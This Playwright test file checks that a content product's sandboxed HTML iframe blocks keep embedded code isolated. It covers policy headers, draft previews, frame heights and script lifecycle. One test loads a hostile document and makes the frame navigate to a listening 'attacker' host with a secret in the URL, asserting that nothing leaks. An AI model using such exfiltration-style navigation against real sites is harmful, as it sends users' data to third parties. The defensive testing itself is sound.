import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, type Frame, type Page } from '@playwright/test';
import { z } from 'zod';
import { signPreview } from '../../src/pages/preview-token.ts';
import type { ContentEditor } from '../support/content-editor.ts';
import { hostileDocument } from '../support/hostile-document.ts';
import { ListeningAttacker } from '../support/listening-attacker.ts';
import { goTo, open, shownPage } from '../support/navigation.ts';
import { test } from '../support/operated-product.ts';
import { type Product, until } from '../support/product.ts';

let product: Product;
let editor: ContentEditor;
let attacker: ListeningAttacker;

test.beforeAll(async ({ operated, admin }) => {
  product = operated;
  editor = admin;
  attacker = await ListeningAttacker.listen();
});

test.afterAll(async () => {
  attacker.close();
});

function framed(document: string, height = 300): object {
  return { blockType: 'html', source: { mode: 'framed', document, title: 'Ein Rahmen', height } };
}

async function publish(path: string, ...blocks: object[]): Promise<string> {
  const id = await editor.save('POST', '/pages?locale=de', {
    path,
    layout: 'default',
    title: 'Rahmen',
    blocks: [{ blockType: 'headline', title: 'Rahmen' }, ...blocks],
    _status: 'published',
  });
  await until('the page is there', async () => (await fetch(product.siteUrl + path)).ok);
  return id;
}

async function frameIn(page: Page, index = 0): Promise<Frame> {
  const element = shownPage(page).locator('iframe').nth(index);
  await element.scrollIntoViewIfNeeded();
  const frame = await (await element.elementHandle())?.contentFrame();
  if (!frame) throw new Error('There is no such frame.');
  await frame.waitForURL('**/frames/**');
  return frame;
}

async function addressIn(path: string): Promise<string> {
  const html = await (await fetch(product.siteUrl + path)).text();
  return /<iframe[^>]* src="([^"]+)"/.exec(html)?.[1]?.replaceAll('&amp;', '&') ?? '';
}

test('a hostile document reaches neither the page, nor its storage, nor the network', async ({
  page,
  context,
}) => {
  await publish('/feindlich', framed(hostileDocument(attacker)));
  await context.addCookies([{ name: 'secret', value: '1', url: product.siteUrl }]);
  const unwanted: string[] = [];
  page.on('dialog', (dialog) => unwanted.push(`dialog ${dialog.message()}`));
  page.on('download', () => unwanted.push('download'));
  context.on('page', () => unwanted.push('window'));
  await open(page, `${product.siteUrl}/feindlich`);
  const frame = await frameIn(page);
  await expect(frame.locator('#outcome')).toContainText('done');
  const outcomes = z
    .record(z.string(), z.string())
    .parse(JSON.parse((await frame.locator('#outcome').textContent()) ?? ''));
  expect(Object.entries(outcomes).filter(([, outcome]) => outcome.startsWith('reached'))).toEqual([]);
  expect(outcomes).toMatchObject({ popup: 'null', done: 'true' });
  // Finally the frame itself tries to navigate.
  await frame.evaluate((host) => location.assign(`http://${host}/?secret`), attacker.host);
  await page.keyboard.press('End');
  expect(page.url()).toBe(`${product.siteUrl}/feindlich`);
  await expect(shownPage(page).locator('h1')).toHaveText('Rahmen');
  expect(unwanted).toEqual([]);
  expect(attacker.heard).toEqual([]);
  // Shows that the listener works.
  await page.goto(`http://${attacker.host}/`).catch(() => {});
  expect(attacker.heard).not.toEqual([]);
});

test('its address answers with a policy of its own, and for published documents only', async () => {
  const id = await publish('/werkzeug', framed('<p>Werkzeug</p>'));
  const address = await addressIn('/werkzeug');
  const answer = await fetch(product.siteUrl + address);
  expect(answer.status).toBe(200);
  const policy = answer.headers.get('content-security-policy')?.split('; ');
  expect(policy).toEqual(
    expect.arrayContaining(["default-src 'none'", 'sandbox allow-scripts', "frame-ancestors 'self'"]),
  );
  expect(policy?.join()).not.toContain('allow-same-origin');
  expect(answer.headers.get('connection-allowlist')).toBe('(response-origin)');
  expect(answer.headers.get('x-robots-tag')).toBe('noindex');
  expect((await fetch(`${product.siteUrl}/en${address}`)).status).toBe(404);
  expect((await fetch(`${product.siteUrl}/frames/${'0'.repeat(24)}`)).status).toBe(404);
  const payload = await (await fetch(`${product.siteUrl}/werkzeug/_payload.js`)).text();
  expect(payload).toContain(address);
  expect(payload).not.toContain('<p>Werkzeug</p>');
  await editor.save('PATCH', `/pages/${id}?locale=de`, { _status: 'draft' });
  await until('it is gone', async () => (await fetch(product.siteUrl + address)).status === 404);
});

test('a draft’s frame is shown to who has its preview link, and to nobody else', async ({ page }) => {
  const document = '<p id="draft">Entwurf</p>';
  await editor.save('POST', '/pages?locale=de&draft=true', {
    path: '/entwurf-im-rahmen',
    layout: 'default',
    title: 'Entwurf',
    blocks: [{ blockType: 'headline', title: 'Entwurf' }, framed(document)],
  });
  const secrets = z
    .object({ preview: z.string() })
    .parse(JSON.parse(await readFile(join(product.dataDir, 'secrets.json'), 'utf8')));
  const linkTo = (path: string) => signPreview({ path, locale: 'de' }, secrets.preview, Date.now());
  await page.goto(`${product.siteUrl}/entwurf-im-rahmen?preview=${linkTo('/entwurf-im-rahmen')}`);
  await expect(page.frameLocator('iframe').locator('#draft')).toHaveText('Entwurf');
  const address = new URL((await page.locator('iframe').getAttribute('src')) ?? '', product.siteUrl);
  expect((await fetch(address)).headers.get('cache-control')).toBe('private, no-store');
  expect((await fetch(product.siteUrl + address.pathname)).status).toBe(404);
  address.searchParams.set('preview', linkTo('/strategie'));
  expect((await fetch(address)).status).toBe(404);
});

test('a frame is as tall as its content, and believes nobody else', async ({ page }) => {
  const box = (height: number) => `<div style="height:${height}px"></div>`;
  const growing = '<button onclick="this.style.height=\'700px\'">mehr</button>';
  await publish('/hoehen', framed(`${box(640)}<!-- <script>`), framed(`${box(120)}${growing}`));
  const heights = () =>
    shownPage(page)
      .locator('iframe')
      .evaluateAll((frames) => frames.map((frame) => frame.getAttribute('height')));
  await open(page, `${product.siteUrl}/hoehen`);
  const second = await frameIn(page, 1);
  await expect.poll(heights).toEqual(['640', expect.stringMatching(/^1[2-9]\d$/)]);
  await page.evaluate(() => window.postMessage({ frameHeight: 2000 }, '*'));
  await second.locator('button').click();
  await expect.poll(heights).toEqual(['640', expect.stringMatching(/^8[2-9]\d$/)]);
});

test('without script around it, it has the height it was given and scrolls inside', async ({ browser }) => {
  await publish('/ohne-skript', framed('<div style="height:2000px"></div>', 260));
  const page = await browser.newPage({ javaScriptEnabled: false });
  await page.goto(`${product.siteUrl}/ohne-skript`);
  expect((await page.locator('iframe').boundingBox())?.height).toBe(260);
  await expect(page.locator('iframe')).not.toHaveAttribute('scrolling', /./);
  await page.close();
});

test('a page that is left does not go on running its frame, and begins it again on return', async ({
  page,
}) => {
  const counting =
    '<output>0</output><script>setInterval(()=>{const o=document.querySelector("output");o.value=+o.value+1},10)</script>';
  await publish('/laeuft', framed(counting));
  await open(page, `${product.siteUrl}/laeuft`);
  const frame = await frameIn(page);
  await expect(frame.locator('output')).not.toHaveText('0');
  await goTo(page, '/demo/headline');
  await expect.poll(() => page.frames().length).toBe(1);
  await goTo(page, '/laeuft');
  await expect((await frameIn(page)).locator('output')).not.toHaveText('0');
  expect(page.frames()).toHaveLength(2);
});

test('the tool among the examples works, and its frame needs no scrolling', async ({ page }) => {
  for (const width of [360, 1280]) {
    await page.setViewportSize({ width, height: 800 });
    await open(page, `${product.siteUrl}/demo/html`);
    const frame = await frameIn(page);
    await frame.getByRole('slider').fill('100');
    await expect(frame.getByText('40\u00A0cm')).toBeVisible();
    expect(
      await frame.evaluate(() => document.documentElement.scrollHeight - window.innerHeight),
    ).toBeLessThanOrEqual(0);
  }
});
